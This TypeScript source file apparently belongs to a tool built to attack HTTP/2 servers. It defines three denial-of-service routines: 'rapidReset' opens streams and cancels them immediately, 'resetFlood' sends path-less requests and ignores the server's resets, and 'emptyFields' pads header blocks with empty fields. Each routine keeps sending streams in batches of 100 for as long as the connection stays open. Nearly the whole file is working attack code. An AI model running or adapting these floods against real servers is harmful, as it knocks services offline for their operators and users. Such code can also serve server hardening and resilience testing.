import type { Attacker } from '../lib/attacker.ts'
import { encodeFields, encodeFrame, END_HEADERS, END_STREAM } from '../lib/frames.ts'
import { getting, requestFields, reset, Type } from '../lib/frames.ts'
import { paths } from '../lib/paths.ts'

const batch = 100

/** Pieces of `batch` streams at a time. */
async function onNewStreams(
  attacker: Attacker,
  make: (streamId: number) => Buffer,
  isRead: boolean,
): Promise<void> {
  await attacker.http2(async (connection) => {
    if (!isRead) connection.socket.pause()
    while (connection.isOpen) {
      const frames = Array.from({ length: batch }, () => make(connection.nextStream()))
      await connection.send(Buffer.concat(frames), batch)
    }
  })
}

/** Requests that are cancelled at once. */
export function rapidReset(attacker: Attacker): Promise<void> {
  const make = (id: number): Buffer => Buffer.concat([getting(id, paths.small), reset(id)])
  return onNewStreams(attacker, make, true)
}

/** Requests without a path, each of which the server resets; the client reads none of that. */
export function resetFlood(attacker: Attacker): Promise<void> {
  const block = encodeFields(requestFields('GET', '/').slice(0, 3))
  const flags = END_HEADERS | END_STREAM
  return onNewStreams(attacker, (id) => encodeFrame(Type.HEADERS, flags, id, block), false)
}

/** Requests with fields that have neither a name nor a value, in the fewest bytes. */
export function emptyFields(attacker: Attacker): Promise<void> {
  const empty = Buffer.alloc(3 * 1000)
  const block = Buffer.concat([encodeFields(requestFields('GET', paths.small)), empty])
  const flags = END_HEADERS | END_STREAM
  return onNewStreams(attacker, (id) => encodeFrame(Type.HEADERS, flags, id, block), true)
}
